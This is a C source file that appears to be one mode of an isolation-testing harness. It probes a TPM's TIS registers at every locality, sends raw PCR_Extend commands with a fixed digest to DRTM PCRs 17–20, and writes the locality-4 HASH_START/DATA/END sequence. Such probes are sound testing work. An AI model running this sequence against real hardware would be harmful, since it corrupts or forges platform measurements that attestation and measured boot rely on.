/* attack_tpm.c: mode 12 tpm (the TIS MMIO at every locality). */
#include "attack.h"

/* ---- 12 tpm ---- */

static unsigned tpm_reached;

/* One MMIO byte access; a stop ends this locality's attempt. */
static int mb(uint64_t a, int write, uint8_t v, uint8_t* out) {
  uint64_t f = write ? t_write8(a, v) : t_read8(a, out);
  if (f) return 0;
  ++tpm_reached;
  return 1;
}

static void tpm_locality(unsigned l, unsigned pcr) {
  const uint64_t base = 0xFED40000ull + 0x1000ull * l;
  uint8_t v = 0;
  os("tpm: locality ");
  odec(l);
  os(" at ");
  ohex(base);
  if (!mb(base + 0x00, 0, 0, &v)) {
    os(": TPM_ACCESS read stopped\n");
    return;
  }
  os(": TPM_ACCESS = ");
  ohex(v);
  if (!mb(base + 0x00, 1, 0x02, 0)) { /* requestUse */
    os(", requestUse stopped\n");
    return;
  }
  for (unsigned i = 0; i < 1000 && mb(base, 0, 0, &v) && !(v & 0x20); ++i) {
  }
  os(v & 0x20 ? ", locality active" : ", locality NOT granted");
  /* TPM2_PCR_Extend(pcr, sha256 = 0xAA..): the password session of an empty auth. */
  uint8_t cmd[65] = {0x80, 0x02, 0, 0, 0, 65, 0, 0, 0x01, 0x82, 0, 0, 0, (uint8_t)pcr, 0, 0, 0, 9,
                     0x40, 0, 0, 0x09, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0x0B};
  for (unsigned i = 33; i < 65; ++i) cmd[i] = 0xAA;
  mb(base + 0x18, 1, 0x40, 0); /* commandReady */
  for (unsigned i = 0; i < sizeof cmd; ++i) mb(base + 0x24, 1, cmd[i], 0);
  mb(base + 0x18, 1, 0x20, 0); /* tpmGo */
  uint8_t sts = 0, rsp[10] = {0};
  for (unsigned i = 0; i < 100000 && mb(base + 0x18, 0, 0, &sts) && !(sts & 0x10); ++i) {
  }
  for (unsigned i = 0; i < 10 && (sts & 0x10); ++i) mb(base + 0x24, 0, 0, &rsp[i]);
  uint32_t rc = (uint32_t)rsp[6] << 24 | (uint32_t)rsp[7] << 16 | (uint32_t)rsp[8] << 8 | rsp[9];
  os(", PCR_Extend(");
  odec(pcr);
  os(") response code ");
  ohex(rc);
  if (l == 4) { /* the DRTM sequence: _TPM_Hash_Start / Data / End */
    mb(base + 0x28, 1, 0, 0);
    mb(base + 0x24, 1, 0x41, 0);
    mb(base + 0x20, 1, 0, 0);
    os(", HASH_START/DATA/END written");
  }
  mb(base, 1, 0x20, 0); /* relinquish */
  oc('\n');
}

long tpm(uint64_t mask) {
  static const unsigned pcr[5] = {17, 18, 19, 20, 17};
  for (unsigned l = 0; l < 5; ++l)
    if (mask & (1u << l)) tpm_locality(l, pcr[l]);
  os("tpm: ");
  odec(tpm_reached);
  os(" TIS register accesses reached the TPM\n");
  return tpm_reached;
}

